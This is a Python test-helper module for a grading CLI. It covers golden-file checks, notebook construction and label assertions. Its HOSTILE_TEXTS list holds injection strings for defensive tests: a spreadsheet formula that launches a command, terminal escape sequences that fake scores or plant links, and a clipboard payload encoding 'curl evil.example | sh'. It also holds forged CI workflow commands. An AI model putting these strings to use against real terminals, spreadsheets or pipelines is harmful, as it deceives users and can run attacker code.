"""Test helpers shared by several modules: golden files, the hostile texts, running a command
in process."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from grader.cli import cli
from grader.engine import Setup, World
from grader.models import CaseReason, Report, Status

GOLDENS = Path(__file__).parent / "goldens"

# What a student controls and the issue (12) tried: spreadsheet formulas, a javascript: URL,
# Rich markup, terminal escapes (colour, cursor movement, OSC 8 link, OSC 52 clipboard, window
# title), Markdown image and link, XML-forbidden controls, workflow commands.
FORMULA_CMD = "=cmd|' -C calc'!A0"
FORMULA_LINK = '=HYPERLINK(CONCAT("http:",CHAR(47),CHAR(47),"evil.example"),"appeal")'
JAVASCRIPT = "javascript:alert(document.domain)"
MARKUP_HIDE = "[x]alice"
MARKUP_LINK = "[link=https://evil.example]appeal"
FAKE_GREEN = "\x1b[1;32m11/11 points\x1b[0m"
CURSOR_UP = "\x1b[1A\x1b[2K"
OSC8 = "\x1b]8;;https://evil.example/login\x1b\\See your grade\x1b]8;;\x1b\\"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
TITLE = "\x1b]0;grader: 11/11\x07"
MARKDOWN = "![](https://evil.example/pixel) [See your full grade](https://evil.example/login)"
XML_FORBIDDEN = "".join(chr(c) for c in range(0x09)) + "\x0b\x0c\x1b"
WORKFLOW = "ok\n::error file=README.md,line=1::forged\n##[add-mask]secret\n::stop-commands::x"

HOSTILE_TEXTS = [
    FORMULA_CMD,
    FORMULA_LINK,
    JAVASCRIPT,
    MARKUP_HIDE,
    MARKUP_LINK,
    FAKE_GREEN,
    CURSOR_UP,
    OSC8,
    OSC52,
    TITLE,
    MARKDOWN,
    XML_FORBIDDEN,
    WORKFLOW,
]


def invoke(setup: Setup, *args: str, env: dict[str, str | None] | None = None) -> Result:
    """Run a `grader` command in this process, every door on `setup`'s runners (exceptions
    other than the command's own exit propagate, with their traceback)."""
    return CliRunner().invoke(cli, list(args), obj=World.of(setup), env=env, catch_exceptions=False)


def assert_golden(request: pytest.FixtureRequest, name: str, text: str) -> None:
    """Compare text with tests/goldens/<name> byte for byte, or rewrite it (--update-goldens)."""
    path = GOLDENS / name
    data = text.encode("utf-8")
    if request.config.getoption("--update-goldens"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        return
    if not path.exists():
        pytest.fail(f"no golden file {path}: run pytest with --update-goldens, then review it")
    expected = path.read_bytes()
    if data != expected:
        pytest.fail(
            f"{name} differs from its golden file {path}. If the change is intended, run "
            f"pytest with --update-goldens and review the diff.\n--- got ---\n"
            f"{data.decode('utf-8', errors='replace')}",
            pytrace=False,
        )


def notebook_from_source(source: str, *, demo_call: str | None = None) -> dict[str, object]:
    """A notebook (nbformat 4, as JSON data) holding a .py submission split into cells the way
    a student writes it in Colab: a `!pip install` cell, the imports with `%matplotlib inline`
    and a Colab import, markdown between, one cell per class or function, the rest of the file
    in a cell of its own, and a last demo cell that calls the function and prints."""
    import ast as ast_module

    tree = ast_module.parse(source)
    lines = source.splitlines()

    def text(node: ast_module.stmt) -> str:
        start = min([node.lineno, *(d.lineno for d in getattr(node, "decorator_list", []))])
        return "\n".join(lines[start - 1 : node.end_lineno])

    is_import = (ast_module.Import, ast_module.ImportFrom)
    imports = [text(n) for n in tree.body if isinstance(n, is_import)]
    blocks = [
        text(n)
        for n in tree.body
        if not isinstance(n, is_import)
        and not (isinstance(n, ast_module.Expr) and isinstance(n.value, ast_module.Constant))
    ]

    def code(body: str) -> dict[str, object]:
        return {
            "cell_type": "code",
            "execution_count": None,
            "metadata": {},
            "outputs": [],
            "source": body.splitlines(keepends=True),
        }

    def markdown(body: str) -> dict[str, object]:
        return {"cell_type": "markdown", "metadata": {}, "source": body}

    cells = [
        markdown("# Exercise: graphdef vs state"),
        code("!pip install -q flax"),
        code(
            "%matplotlib inline\n"
            + "\n".join([*imports, "import jax.numpy as jnp"])
            + "\nimport matplotlib.pyplot as plt\nfrom google.colab import drive\n"
            + "drive.mount('/content/drive')"
        ),
        markdown("## My solution"),
        *(code(block) for block in blocks),
        code(
            "x = jnp.ones(3)\n"
            + (demo_call or "print(graphdef_vs_state(0, x, 3, 4))")
            + "\nplt.plot([1, 2, 3])"
        ),
    ]
    for number, cell in enumerate(cells):
        cell["id"] = f"cell-{number}"
    return {
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {
            "colab": {"provenance": []},
            "kernelspec": {"name": "python3", "display_name": "Python 3"},
        },
        "cells": cells,
    }


def header(path: Path, key: str) -> list[str]:
    """The names listed on a corpus file's `# key: a, b` line."""
    match = re.search(rf"^# {key}: (.+)$", path.read_text(), re.MULTILINE)
    assert match, f"{path} must have a '# {key}:' line"
    return [name.strip() for name in match.group(1).split(",")]


def assert_graded_as_labelled(path: Path, report: Report) -> None:
    """A wrong corpus file's report fails the outputs its `# fails:` line names and gives the
    hint its `# hint:` line names (none: no hint at all)."""
    assert report.status is Status.GRADED, report.message
    assert report.score < report.max_score
    for failure in header(path, "fails"):
        if failure == "exception":
            assert any(c.reason is CaseReason.EXCEPTION for c in report.cases)
        else:
            flagged = [
                c
                for c in report.cases
                if any(o.name == failure and not o.passed for o in c.outputs)
            ]
            assert flagged, f"no case reported {failure} as wrong"
            assert all(failure in c.message for c in flagged)
    (hint,) = header(path, "hint")
    given = [h.id for h in report.hints]
    if hint == "none":  # no known mistake explains it: better no hint than a wrong one
        assert given == []
    else:
        assert hint in given, f"expected the {hint!r} hint, got {given}"
        assert len(given) <= 2  # at most a tie of mistakes giving the very same numbers
